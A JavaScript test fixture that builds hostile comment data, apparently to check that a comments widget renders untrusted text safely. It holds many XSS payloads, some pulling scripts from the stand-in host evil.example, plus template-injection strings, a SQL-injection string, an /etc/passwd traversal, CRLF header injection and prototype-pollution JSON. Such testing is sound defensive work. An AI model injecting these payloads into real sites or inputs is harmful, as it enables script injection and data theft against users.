/*
 * Strings that try to become more than text: markup, templates, addresses, and shapes of JSON. Whoever shows data from
 * outside shows these, and nothing runs, is requested or goes anywhere. `X()` is what they try to run.
 */

/** Markup. */
const html = String.raw`
<script>X()</script>
<script src=//evil.example/x.js></script>
<ScRiPt>X()</sCrIpT>
<script/src=data:,X()>
"><script>X()</script>
'><script>X()</script>
</textarea><script>X()</script>
</title><script>X()</script>
</style><script>X()</script>
</article-comments><script>X()</script>
</template><script>X()</script>
--><script>X()</script>
]]><script>X()</script>
<img src=x onerror=X()>
<img src=x:x onerror="X()">
<img/src/onerror=X()>
<IMG SRC=javascript:X()>
<img src="//evil.example/p.png">
<img srcset="//evil.example/p.png 1x">
<img src=1 onerror=&#88;&#40;&#41;>
<image href=x onerror=X()>
<svg onload=X()>
<svg><script>X()</script></svg>
<svg><script href=//evil.example/x.js></script></svg>
<svg><animate onbegin=X() attributeName=x dur=1s>
<svg><a xlink:href="javascript:X()"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=X()>#x"/></svg>
<svg><foreignObject><body onload=X()></foreignObject></svg>
<svg><set attributeName=onmouseover to=X()>
<math href="javascript:X()">x</math>
<math><mi//xlink:href="data:x,<script>X()</script>">
<math><mtext><table><mglyph><style><img src=x onerror=X()>
<iframe src=javascript:X()></iframe>
<iframe srcdoc="<script>parent.X()</script>"></iframe>
<iframe src=//evil.example/></iframe>
<object data=javascript:X()></object>
<object data=//evil.example/x.swf></object>
<embed src=javascript:X()>
<embed src=//evil.example/>
<frameset onload=X()></frameset>
<body onload=X()>
<body onpageshow=X()>
<body background=//evil.example/p.png>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/>
<link rel=preload as=image href=//evil.example/p.png>
<meta http-equiv=refresh content="0;url=javascript:X()">
<meta http-equiv=refresh content="0;url=//evil.example/">
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example/p.png)}</style>
<div style="background:url(//evil.example/p.png)">x</div>
<div style="behavior:url(x.htc)">x</div>
<p style="position:fixed;inset:0;z-index:9999">x</p>
<video src=x onerror=X()></video>
<video poster=//evil.example/p.png></video>
<video><source onerror=X()></video>
<audio src=//evil.example/a.mp3 autoplay onerror=X()>
<details open ontoggle=X()>x</details>
<input autofocus onfocus=X()>
<select autofocus onfocus=X()></select>
<textarea autofocus onfocus=X()></textarea>
<button autofocus onfocus=X()>x</button>
<button formaction=javascript:X()>x</button>
<form action=javascript:X()><input type=submit></form>
<form action=//evil.example/><input name=x></form>
<input type=image src=//evil.example/p.png onerror=X()>
<isindex action=javascript:X()>
<marquee onstart=X()>x</marquee>
<dialog open onclose=X()>x</dialog>
<div tabindex=1 autofocus onfocus=X()>x</div>
<a href="javascript:X()">x</a>
<a href=" javascript:X()">x</a>
<a href="java&#9;script:X()">x</a>
<a href=data:text/html,<script>X()</script>>x</a>
<a ping=//evil.example/ href=#>x</a>
<template shadowrootmode=open><script>X()</script></template>
<slot name=form></slot>
<article-comments src=//evil.example/></article-comments>
<article-photo src=//evil.example/p.png></article-photo>
<x-element onclick=X()>x</x-element>
<noscript><p title="</noscript><img src=x onerror=X()>">
<!--><img src=x onerror=X()>-->
<![CDATA[<script>X()</script>]]>
<?xml version="1.0"?><script>X()</script>
<p id=heading>x</p>
<form id=location><input name=href value=x>
<plaintext>
<xmp><script>X()</script></xmp>
`;

/** Templates, encodings, and letters that are not what they seem. */
const templates = [
  '{{constructor.constructor("X()")()}}',
  '${X()}',
  '#{X()}',
  '<%= X() %>',
  '{%raw%}{{X()}}{%endraw%}',
  '{{$on.constructor("X()")()}}',
  '[[X()]]',
  '`${X()}`',
  '?.constructor?.constructor("X()")()',
  '<!--?lit$123456789$-->',
  '?lit$123456789$',
  'lit$123456789$',
  '<?lit$1$?>',
  '<!--lit-part-->',
  '@click=${X}',
  '.innerHTML=<img src=x onerror=X()>',
  '{n}{count}{max}{name}{unit}',
  '&lt;script&gt;X()&lt;/script&gt;',
  '&#60;script&#62;X()&#60;/script&#62;',
  '%3Cscript%3EX()%3C/script%3E',
  '\\u003cscript\\u003eX()\\u003c/script\\u003e',
  '\\x3cscript\\x3eX()\\x3c/script\\x3e',
  '+ADw-script+AD4-X()+ADw-/script+AD4-',
  '\ufeff<script>X()</script>',
  '<scr\u0000ipt>X()</scr\u0000ipt>',
  '\u0000\u0001\u0008\u001f\u007f',
  '\u202ecod.exe\u202c',
  '\u2066\u2067\u2068',
  '\u200b\u200c\u200d\u2060',
  '\ud800',
  '\udfff\ud800',
  '\uffff\ufffe',
  `a${'\u0301'.repeat(300)}`,
  '\u2028\u2029',
  '\uff1cscript\uff1eX()\uff1c/script\uff1e',
  '\u02bascript\u02ba',
  '"; X(); //',
  "'; X(); //",
  '\\"; X(); //',
  '*/X()/*',
  "1' OR '1'='1",
  '../../../../etc/passwd',
  '\r\nSet-Cookie: x=1\r\n\r\n<script>X()</script>',
];

/** Addresses. None but the plain http ones may become a link, and none is fetched. */
const addresses = [
  'javascript:X()',
  ' javascript:X()',
  '\tjavascript:X()',
  '\njavascript:X()',
  'java\tscript:X()',
  'java\nscript:X()',
  'JaVaScRiPt:X()',
  '\u0001javascript:X()',
  'javascript\u003aX()',
  'javascript&colon;X()',
  'javascript:X()//https://a.example/',
  'javascript://a.example/%0aX()',
  'javascript:void(X())',
  'view-source:javascript:X()',
  'feed:javascript:X()',
  'jar:javascript:X()!/',
  'vbscript:X()',
  'livescript:X()',
  'data:text/html,<script>X()</script>',
  'data:text/html;base64,PHNjcmlwdD5YKCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="X()"/>',
  'data:,x',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/temporary/x',
  'file:///etc/passwd',
  'about:blank',
  'chrome://crash',
  'ftp://evil.example/',
  'mailto:x@evil.example',
  'tel:+84123',
  'intent://evil.example/#Intent;end',
  'ws://evil.example/',
  '//evil.example/p.png',
  '/\\evil.example/p.png',
  '\\\\evil.example\\p.png',
  '/api/delete',
  '../../api/delete',
  '?delete=1',
  '#top',
  'https://user:pass@evil.example/',
  'https://bank.example@evil.example/',
  'https://evil.example\u202egnp.exe',
  'https://evil.example/"onmouseover="X()',
  "https://evil.example/'onmouseover='X()",
  'https://evil.example/<script>X()</script>',
  'https://evil.example/ onmouseover=X()',
  'https://evil.example/`X()`',
  'https://',
  'https:///',
  'https://:80/',
  'https://[::1',
  'https://a'.repeat(300),
  'https://xn--80ak6aa92e.example/',
  'http://evil.example/.,;:!?)]}',
  `https://evil.example/${')'.repeat(2000)}`,
];

/** Shapes of JSON that stand where text should. */
const shapes = [
  '{"_$litType$": 1, "strings": ["<img src=x onerror=X()>"], "values": []}',
  '{"_$litType$": 2, "strings": {"raw": ["<script>X()</script>"]}, "values": []}',
  '{"_$litDirective$": "x", "values": []}',
  '{"__proto__": {"polluted": 1}}',
  '{"constructor": {"prototype": {"polluted": 1}}}',
  '{"toString": "X()", "valueOf": "X()"}',
  '{"then": "X()"}',
  '{"nodeType": 1, "textContent": "x"}',
  '{"length": 1000000000}',
  '["<script>X()</script>"]',
  '[[[[[[[["x"]]]]]]]]',
  'null',
  'true',
  '-0',
  '1e999',
];

const lines = html.split('\n').filter(Boolean);

/** Every hostile string. */
export const hostile = [...lines, ...templates, ...addresses, ...shapes];

/** Comments whose every field is hostile, as a server would send them: as text, and where it parses, as JSON. */
export function hostileComments() {
  return hostile.flatMap((text, index) => {
    const good = {
      id: `good-${index}`,
      text: 'benign',
      author: {name: 'benign'},
      createdAt: '2024-03-29T11:12:24Z',
    };
    const everywhere = {
      id: text,
      parentId: text,
      text,
      createdAt: text,
      status: text,
      author: {name: text, url: text, avatar: text},
    };
    const author = {...good, id: `author-${index}`, author: {name: text, url: text, avatar: text}};
    const parsed = parse(text);
    const shaped =
      parsed === undefined ? [] : [{...good, id: `shape-${index}`, text: parsed, author: parsed}, parsed];
    return [everywhere, {...good, id: `text-${index}`, text: `benign ${text} benign`}, author, ...shaped];
  });
}

/** What a text says as JSON, if it does. */
export function parse(text) {
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
}
